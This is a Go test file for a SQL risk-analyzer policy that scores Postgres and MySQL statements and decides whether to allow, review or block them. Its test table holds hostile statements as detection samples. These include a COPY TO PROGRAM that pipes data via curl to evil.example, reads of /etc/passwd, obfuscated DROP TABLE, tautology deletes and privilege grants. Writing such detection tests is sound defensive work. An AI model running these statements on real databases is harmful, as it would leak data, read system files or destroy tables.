package analyzer

import (
	"os"
	"strconv"
	"strings"
	"testing"

	"hoop.dev/hoop/sdk"
)

const testConfig = `{"sensitive_tables":["users","billing.payments"]}`

func configured(t testing.TB, config string) *Policy {
	t.Helper()
	p := New()
	if err := p.Configure([]byte(config)); err != nil {
		t.Fatalf("Configure: %v", err)
	}
	return p
}

func input(protocol, text string) *sdk.Input {
	return &sdk.Input{
		Identity:  sdk.Identity{Name: "etl", Kind: "machine"},
		Resource:  "demo",
		Role:      "readonly",
		Protocol:  protocol,
		Session:   "s1",
		Statement: sdk.Statement{Text: text},
	}
}

func TestEvaluate(t *testing.T) {
	p := configured(t, testConfig)
	tests := []struct {
		name     string
		protocol string
		text     string
		decision string
		rule     string
		risk     int
	}{
		{"plain select", "postgres", "select * from orders where id = 1", sdk.Allow, "", 0},
		{"select for update", "postgres", "select * from orders where id = 1 for update", sdk.Allow, "", 0},
		{"insert", "postgres", "insert into orders (id) values (1)", sdk.Allow, "write", 10},
		{"upsert is not an update without where", "postgres", "insert into t values (1) on conflict (id) do update set n = 2", sdk.Allow, "write", 10},
		{"update with where", "postgres", "update orders set paid = true where id = 7", sdk.Allow, "write", 10},
		{"delete with where", "postgres", "delete from orders where id = 7", sdk.Allow, "write", 10},
		{"delete without where", "postgres", "DELETE FROM orders", sdk.Review, "delete-without-where", 70},
		{"delete where true", "postgres", "delete from orders where true", sdk.Review, "delete-without-where", 70},
		{"delete where 1=1", "postgres", "delete from orders where 1=1", sdk.Review, "delete-without-where", 70},
		{"delete where 1 = 1 in parens", "postgres", "delete from orders where (1 = 1)", sdk.Review, "delete-without-where", 70},
		{"delete where or tautology", "postgres", "delete from orders where id = 7 or 'a' = 'a'", sdk.Review, "delete-without-where", 70},
		{"delete where nested or tautology", "postgres", "delete from orders where (id = 7 or id = id)", sdk.Review, "delete-without-where", 70},
		{"delete where 1 <> 2", "postgres", "delete from orders where 1 <> 2", sdk.Review, "delete-without-where", 70},
		{"delete where and is not a tautology", "postgres", "delete from orders where 1=1 and id = 7", sdk.Allow, "write", 10},
		{"delete where inside subquery only", "postgres", "delete from orders o using (select id from x where true) s", sdk.Review, "delete-without-where", 70},
		{"delete in cte without where", "postgres", "with d as (delete from orders returning *) select count(*) from d", sdk.Review, "delete-without-where", 70},
		{"delete in cte with where", "postgres", "with d as (delete from orders where id = 1 returning *) select count(*) from d", sdk.Allow, "write", 10},
		{"update without where", "postgres", "update orders set paid = false", sdk.Review, "update-without-where", 70},
		{"merge then delete", "postgres", "merge into orders o using staged s on o.id = s.id when matched then delete when not matched then insert values (s.id)", sdk.Allow, "write", 10},
		{"merge then update", "postgres", "merge into orders o using staged s on o.id = s.id when matched then update set n = s.n", sdk.Allow, "write", 10},
		{"on delete cascade", "postgres", "create table c (o int references orders on delete cascade)", sdk.Allow, "ddl", 20},
		{"drop table", "postgres", "DROP TABLE orders", sdk.Review, "drop", 80},
		{"drop table obfuscated", "postgres", "dRoP/**/\n  tAbLe orders", sdk.Review, "drop", 80},
		{"truncate", "postgres", "truncate orders", sdk.Review, "truncate", 80},
		{"alter table", "postgres", "alter table orders add column note text", sdk.Review, "alter", 50},
		{"alter owner", "postgres", "alter table orders owner to mallory", sdk.Review, "privilege", 80},
		{"grant", "postgres", "grant all on orders to public", sdk.Review, "privilege", 75},
		{"revoke", "postgres", "revoke select on orders from bob", sdk.Review, "privilege", 75},
		{"create role", "postgres", "create role admin2 superuser", sdk.Review, "privilege", 75},
		{"drop role", "postgres", "drop role bob", sdk.Review, "drop", 85},
		{"set role", "postgres", "set role postgres", sdk.Review, "privilege", 75},
		{"set session authorization", "postgres", "SET SESSION AUTHORIZATION postgres", sdk.Review, "privilege", 75},
		{"plain set", "postgres", "set statement_timeout = 1000", sdk.Allow, "", 0},
		{"alter system", "postgres", "alter system set log_statement = 'none'", sdk.Review, "server-config", 80},
		{"create table", "postgres", "create temp table x (a int)", sdk.Allow, "ddl", 20},
		{"copy to program", "postgres", "COPY orders TO PROGRAM 'curl -d @- evil.example'", sdk.Block, "copy-program", 95},
		{"copy from program", "postgres", "copy orders from program 'cat /etc/passwd'", sdk.Block, "copy-program", 95},
		{"copy to server file", "postgres", "copy orders to '/tmp/orders.csv'", sdk.Review, "server-access", 85},
		{"copy to stdout", "postgres", "copy orders to stdout", sdk.Allow, "", 0},
		{"copy from stdin", "postgres", "copy orders from stdin", sdk.Allow, "write", 10},
		{"pg_read_file", "postgres", "select pg_read_file('/etc/passwd')", sdk.Review, "server-access", 85},
		{"qualified pg_read_file", "postgres", "select pg_catalog.pg_read_file('x')", sdk.Review, "server-access", 85},
		{"pg_read_file as a string", "postgres", "select 'pg_read_file(1)'", sdk.Allow, "", 0},
		{"terminate backend", "postgres", "select pg_terminate_backend(123)", sdk.Review, "admin-function", 60},
		{"do block", "postgres", "do $$ begin perform 1; end $$", sdk.Allow, "procedural", 40},
		{"do block hiding a drop", "postgres", "do $$ begin drop table orders; end $$", sdk.Review, "drop", 85},
		{"do block with dynamic sql", "postgres", "do $$ begin execute 'delete from orders'; end $$", sdk.Review, "delete-without-where", 75},
		{"drop in a string", "postgres", "select 'drop table orders'", sdk.Allow, "", 0},
		{"multi statement", "postgres", "select 1; select 2", sdk.Allow, "multi-statement", 30},
		{"multi statement with drop", "postgres", "select 1; drop table orders", sdk.Review, "drop", 85},
		{"sensitive select without limit", "postgres", "select * from users", sdk.Review, "sensitive-select-without-limit", 60},
		{"sensitive select with limit", "postgres", "select * from users limit 10", sdk.Allow, "sensitive-table", 40},
		{"sensitive select with fetch", "postgres", "select * from users fetch first 10 rows only", sdk.Allow, "sensitive-table", 40},
		{"sensitive quoted", "postgres", `select * from "users" limit 1`, sdk.Allow, "sensitive-table", 40},
		{"sensitive qualified", "postgres", "select * from billing.payments limit 1", sdk.Allow, "sensitive-table", 40},
		{"sensitive bare name of qualified entry", "postgres", "select * from payments limit 1", sdk.Allow, "sensitive-table", 40},
		{"other schema is not sensitive", "postgres", "select * from archive.payments", sdk.Allow, "", 0},
		{"sensitive delete without where", "postgres", "delete from users", sdk.Review, "delete-without-where", 75},
		{"sensitive drop", "postgres", "drop table users", sdk.Review, "drop", 85},
		{"sensitive in string only", "postgres", "select 'users'", sdk.Allow, "", 0},
		{"everything at once", "postgres", "select pg_read_file('/x'); drop table users", sdk.Block, "server-access", 100},
		{"mysql into outfile", "mysql", "select * from orders into outfile '/tmp/o'", sdk.Review, "server-access", 85},
		{"mysql load data infile", "mysql", "LOAD DATA INFILE '/tmp/x' INTO TABLE orders", sdk.Review, "server-access", 85},
		{"mysql load data local", "mysql", "load data local infile 'x' into table orders", sdk.Allow, "write", 10},
		{"mysql set global", "mysql", "SET GLOBAL general_log = 0", sdk.Review, "server-config", 80},
		{"mysql backtick drop", "mysql", "drop table `orders`", sdk.Review, "drop", 80},
		{"mysql executable comment", "mysql", "/*!50000 DELETE */ FROM orders", sdk.Review, "delete-without-where", 70},
		{"mysql replace function is not a write", "mysql", "select replace(name, 'a', 'b') from orders", sdk.Allow, "", 0},
		{"mysql where 1", "mysql", "delete from orders where 1", sdk.Review, "delete-without-where", 70},
		{"empty", "postgres", "", sdk.Allow, "", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := p.Evaluate(input(tt.protocol, tt.text))
			if err != nil {
				t.Fatalf("Evaluate: %v", err)
			}
			if v.Decision != tt.decision || v.Rule != tt.rule || v.Risk != tt.risk {
				t.Fatalf("Evaluate(%q) = %s/%q/%d (%s), want %s/%q/%d",
					tt.text, v.Decision, v.Rule, v.Risk, v.Reason, tt.decision, tt.rule, tt.risk)
			}
		})
	}
}

func TestReason(t *testing.T) {
	p := configured(t, testConfig)
	v, _ := p.Evaluate(input("postgres", "drop table users"))
	want := "risk 85: drop (80): drops an object (DROP TABLE); sensitive-table (+5): touches a sensitive table (users)"
	if v.Reason != want {
		t.Errorf("reason\n got %q\nwant %q", v.Reason, want)
	}
	v, _ = p.Evaluate(input("postgres", "select 1"))
	if v.Reason != "no risk signals" {
		t.Errorf("reason %q", v.Reason)
	}
}

func TestThresholdsAndWeights(t *testing.T) {
	tests := []struct {
		name     string
		config   string
		text     string
		decision string
		risk     int
	}{
		{"defaults drop is review", `{}`, "drop table t", sdk.Review, 80},
		{"lower block_at blocks drop", `{"block_at":80}`, "drop table t", sdk.Block, 80},
		{"review_at above drop allows", `{"review_at":81,"block_at":101}`, "drop table t", sdk.Allow, 80},
		{"block_at 101 never blocks", `{"block_at":101}`, "copy t to program 'x'", sdk.Review, 95},
		{"weight override", `{"weights":{"drop":95}}`, "drop table t", sdk.Block, 95},
		{"weight zero turns off", `{"weights":{"delete-without-where":0}}`, "delete from t", sdk.Allow, 0},
		{"bonus", `{"bonus":20}`, "select 1; drop table t", sdk.Block, 100},
		{"no bonus", `{"bonus":0}`, "select 1; drop table t", sdk.Review, 80},
		{"review everything", `{"review_at":0}`, "select 1", sdk.Review, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, err := configured(t, tt.config).Evaluate(input("postgres", tt.text))
			if err != nil {
				t.Fatal(err)
			}
			if v.Decision != tt.decision || v.Risk != tt.risk {
				t.Errorf("%q = %s/%d (%s), want %s/%d", tt.text, v.Decision, v.Risk, v.Reason, tt.decision, tt.risk)
			}
		})
	}
}

func TestConfigure(t *testing.T) {
	tests := []struct {
		name    string
		config  string
		wantErr string
	}{
		{"empty", "", ""},
		{"full", `{"review_at":40,"block_at":95,"bonus":10,"sensitive_tables":["users","\"Billing\".cards"],"weights":{"drop":90,"write":0}}`, ""},
		{"unknown key", `{"review_at":50,"blok_at":90}`, `unknown field "blok_at"`},
		{"bad type", `{"review_at":"high"}`, "decode analyzer config"},
		{"trailing", `{}x`, "trailing data"},
		{"review_at too high", `{"review_at":102}`, "review_at 102"},
		{"negative block_at", `{"review_at":0,"block_at":-1}`, "block_at -1"},
		{"block below review", `{"review_at":60,"block_at":50}`, "block_at 50 is below review_at 60"},
		{"bad bonus", `{"bonus":101}`, "bonus 101"},
		{"unknown signal", `{"weights":{"dropp":10}}`, `unknown signal "dropp"`},
		{"weight out of range", `{"weights":{"drop":101}}`, `"drop" is 101`},
		{"bad table", `{"sensitive_tables":["a b"]}`, `sensitive_tables: "a b"`},
		{"empty table", `{"sensitive_tables":[""]}`, `sensitive_tables: ""`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := New().Configure([]byte(tt.config))
			switch {
			case tt.wantErr == "" && err != nil:
				t.Fatalf("Configure: %v", err)
			case tt.wantErr != "" && err == nil:
				t.Fatalf("Configure succeeded, want error containing %q", tt.wantErr)
			case tt.wantErr != "" && !strings.Contains(err.Error(), tt.wantErr):
				t.Fatalf("Configure error %q, want it to contain %q", err, tt.wantErr)
			}
		})
	}
}

func TestEverySignalHasAUniqueName(t *testing.T) {
	seen := map[string]bool{}
	for s := range numSignals {
		info := signals[s]
		if info.name == "" || info.what == "" || info.weight <= 0 || info.weight > 100 || seen[info.name] {
			t.Errorf("signal %d: %+v", s, info)
		}
		seen[info.name] = true
		if got, ok := signalByName(info.name); !ok || got != s {
			t.Errorf("signalByName(%q) = %d, %v", info.name, got, ok)
		}
	}
}

func TestManifest(t *testing.T) {
	if Manifest.Name != "analyzer" || Manifest.Kind != sdk.KindPolicy || Manifest.Version != "1.0.0" ||
		strings.Join(Manifest.Protocols, ",") != "postgres,mysql" || Manifest.Description == "" {
		t.Errorf("manifest %+v", Manifest)
	}
}

func BenchmarkEvaluate(b *testing.B) {
	p := configured(b, testConfig)
	for _, bc := range []struct{ name, text string }{
		{"select", "SELECT id, name, email FROM orders WHERE id = $1 AND status = 'active' ORDER BY created_at DESC LIMIT 10"},
		{"insert", "INSERT INTO events (kind, payload, at) VALUES ('login', '{\"ip\":\"10.0.0.1\"}', now())"},
		{"sensitive-drop", "/* cleanup */ DROP TABLE IF EXISTS users"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			in := input("postgres", bc.text)
			b.ReportAllocs()
			for b.Loop() {
				if _, err := p.Evaluate(in); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestBoundedWhereScans checks the documented bound: past maxWhereScans
// UPDATE or DELETE commands in one input, the rest count as without WHERE,
// so a long batch cannot make Evaluate quadratic and cannot hide a delete.
func TestBoundedWhereScans(t *testing.T) {
	p := New()
	few := strings.Repeat("delete from t where id = 1;", maxWhereScans)
	if v, _ := p.Evaluate(input("postgres", few)); v.Rule == "delete-without-where" {
		t.Errorf("%d deletes with WHERE: %+v", maxWhereScans, v)
	}
	many := few + "delete from t where id = 1"
	if v, _ := p.Evaluate(input("postgres", many)); v.Rule != "delete-without-where" {
		t.Errorf("%d deletes: %+v, want delete-without-where", maxWhereScans+1, v)
	}
}

// TestDeeplyNestedOr checks that nesting ORs past maxOrDepth counts as a
// tautology rather than hiding one.
func TestDeeplyNestedOr(t *testing.T) {
	p := New()
	for _, tt := range []struct {
		levels int
		last   string
		rule   string
	}{
		{2, "id = 4", "write"},
		{2, "1 = 1", "delete-without-where"},
		{maxOrDepth + 2, "1 = 1", "delete-without-where"},
		{maxOrDepth + 2, "id = 4", "delete-without-where"},
	} {
		cond := tt.last
		for range tt.levels {
			cond = "(id = 2 or " + cond + ")"
		}
		if v, _ := p.Evaluate(input("postgres", "delete from t where "+cond)); v.Rule != tt.rule {
			t.Errorf("%d levels ending in %s: %+v, want %s", tt.levels, tt.last, v, tt.rule)
		}
	}
}

// TestDocsWorkedExamples keeps the worked examples in docs/policies.md
// true: each row's risk, decision and rule must be what Evaluate returns.
func TestDocsWorkedExamples(t *testing.T) {
	doc, err := os.ReadFile("../../docs/policies.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(doc), "### Worked examples")
	if !ok {
		t.Fatal("docs/policies.md has no worked examples section")
	}
	section, _, _ = strings.Cut(section, "\n### ")
	p := configured(t, `{"sensitive_tables":["users"]}`)
	rows := 0
	for _, line := range strings.Split(section, "\n") {
		cells := strings.Split(line, "|")
		if len(cells) != 7 || !strings.HasPrefix(strings.TrimSpace(cells[1]), "`") {
			continue
		}
		rows++
		text := strings.Trim(strings.TrimSpace(cells[1]), "`")
		risk, decision, rule := strings.TrimSpace(cells[3]), strings.TrimSpace(cells[4]), strings.TrimSpace(cells[5])
		if rule == "—" {
			rule = ""
		}
		v, _ := p.Evaluate(input("postgres", text))
		if strconv.Itoa(v.Risk) != risk || v.Decision != decision || v.Rule != rule {
			t.Errorf("docs say %q is %s/%s/%s; Evaluate says %d/%s/%s (%s)", text, risk, decision, rule, v.Risk, v.Decision, v.Rule, v.Reason)
		}
	}
	if rows < 10 {
		t.Errorf("found %d example rows, want at least 10", rows)
	}
}
